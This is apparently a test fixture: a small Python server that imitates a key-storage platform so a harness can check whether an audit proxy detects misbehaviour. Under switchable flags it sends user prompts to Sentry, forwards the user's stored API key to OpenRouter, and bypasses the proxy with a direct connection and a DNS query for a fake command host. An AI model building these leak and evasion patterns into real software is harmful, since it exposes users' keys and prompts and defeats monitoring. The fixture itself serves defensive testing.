"""A tiny BYOK platform for harness tests: the reference server's API, with switchable misbehaviour.

Run as a real child process by the tests. It stores keys in memory, calls api.anthropic.com through
the proxy from its environment, and can also leak (Sentry, OpenRouter), go around the proxy
(``--bypass``: a direct HTTPS call with ``trust_env=False`` and a DNS query of its own), exit at once,
never become ready, or hang on a prompt.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import secrets
import socket
import ssl
import struct
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import httpx

USERS: dict[str, str] = {}  # token -> name
KEYS: dict[str, str] = {}  # name -> key
LOCK = threading.Lock()
ARGS = argparse.Namespace()
#: TEST-NET-3: never routed. Outside a sealed namespace of the tests' own nothing reaches it.
OWN_RESOLVER = ("203.0.113.53", 53)
OWN_QUERY_NAME = "c2.fake-target.example"


def dns_query(name: str) -> bytes:
    """A one-question A query, built by hand: the platform's own resolver, not the system's."""
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return (
        struct.pack("!6H", secrets.randbelow(0xFFFF), 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
    )


def go_around_the_proxy(prompt: dict) -> None:
    """What a careless platform does: its telemetry ignores HTTPS_PROXY (but trusts the system CA
    bundle, here the audit's), and it asks a hard-coded DNS server about its command host."""
    ca = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    with (
        contextlib.suppress(httpx.HTTPError, OSError),
        httpx.Client(trust_env=False, verify=ca, timeout=5) as direct,
    ):
        direct.post("https://o123.ingest.sentry.io/api/1/envelope/", json={"prompt": prompt})
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.settimeout(2)
        udp.sendto(dns_query(OWN_QUERY_NAME), OWN_RESOLVER)
        udp.recv(512)


class Handler(BaseHTTPRequestHandler):
    disable_nagle_algorithm = True
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        with open(ARGS.log_file, "a") as log:
            log.write(f"{time.time():.3f} {self.command} {self.path.split('?')[0]}\n")

    def _send(self, status: int, payload: object | None = None) -> None:
        body = b"" if payload is None else json.dumps(payload).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _body(self) -> dict:
        length = int(self.headers.get("content-length", 0))
        return json.loads(self.rfile.read(length) or b"{}")

    def _user(self) -> str | None:
        auth = self.headers.get("authorization", "")
        return USERS.get(auth.removeprefix("Bearer "))

    def do_GET(self) -> None:
        if self.path == "/healthz":
            self._send(200, {"ok": True})
            return
        user = self._user()
        if user is None:
            self._send(401, {"error": "unauthenticated"})
        elif self.path == "/api/v1/claude-key":
            key = KEYS.get(user)
            self._send(200, {"last4": key[-4:]} if key else {"key": None})
        else:
            self._send(404, {"error": "not found"})

    def do_PUT(self) -> None:
        user = self._user()
        if user is None:
            self._send(401, {"error": "unauthenticated"})
            return
        KEYS[user] = self._body()["api_key"]
        self._send(200, {"stored": True})

    def do_DELETE(self) -> None:
        user = self._user()
        if user is None:
            self._send(401, {"error": "unauthenticated"})
            return
        KEYS.pop(user, None)
        self._send(204)

    def do_POST(self) -> None:
        if self.path == "/api/v1/dev/signup":
            token = secrets.token_hex(16)
            name = self._body()["name"]
            USERS[token] = name
            self._send(200, {"user_id": name, "name": name, "token": token})
            return
        user = self._user()
        if user is None or self.path != "/api/v1/messages":
            self._send(401 if user is None else 404, {"error": "no"})
            return
        body = self._body()
        key = KEYS.get(user)
        if key is None:
            self._send(400, {"error": "no key stored"})
            return
        if ARGS.hang_on_prompt:
            time.sleep(3600)
        if ARGS.bypass:
            go_around_the_proxy(body)
        with httpx.Client(trust_env=True, timeout=30) as client:
            if ARGS.leak:
                client.post("https://o123.ingest.sentry.io/api/1/envelope/", json={"prompt": body})
                client.post(
                    "https://openrouter.ai/api/v1/chat/completions",
                    headers={"authorization": f"Bearer {key}"},
                    json={"model": body.get("model"), "messages": body.get("messages")},
                )
            upstream = client.post(
                "https://api.anthropic.com/v1/messages",
                headers={"x-api-key": key, "anthropic-version": "2023-06-01"},
                json=body,
            )
        self.send_response(upstream.status_code)
        self.send_header("content-type", upstream.headers.get("content-type", "application/json"))
        self.send_header("content-length", str(len(upstream.content)))
        self.end_headers()
        self.wfile.write(upstream.content)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--log-file", required=True)
    parser.add_argument("--leak", action="store_true")
    parser.add_argument("--bypass", action="store_true", help="also go around the proxy")
    parser.add_argument("--exit-at-once", action="store_true")
    parser.add_argument("--never-ready", action="store_true")
    parser.add_argument("--hang-on-prompt", action="store_true")
    parser.add_argument("--truncate-log", action="store_true", help="start with an empty log")
    parser.add_argument(
        "--exit-once", metavar="MARKER", help="fail the first start (no MARKER yet)"
    )
    parser.parse_args(namespace=ARGS)
    if ARGS.exit_once and not os.path.exists(ARGS.exit_once):
        open(ARGS.exit_once, "w").close()
        print(
            "fatal: cannot listen: Address already in use (test flag --exit-once)", file=sys.stderr
        )
        sys.exit(1)
    if ARGS.truncate_log:
        open(ARGS.log_file, "w").close()
    if ARGS.exit_at_once:
        print("fatal: refusing to start (test flag --exit-at-once)", file=sys.stderr)
        sys.exit(3)
    if ARGS.never_ready:
        time.sleep(3600)
    print(f"fake target listening on 127.0.0.1:{ARGS.port}", file=sys.stderr, flush=True)
    ThreadingHTTPServer(("127.0.0.1", ARGS.port), Handler).serve_forever()


if __name__ == "__main__":
    main()
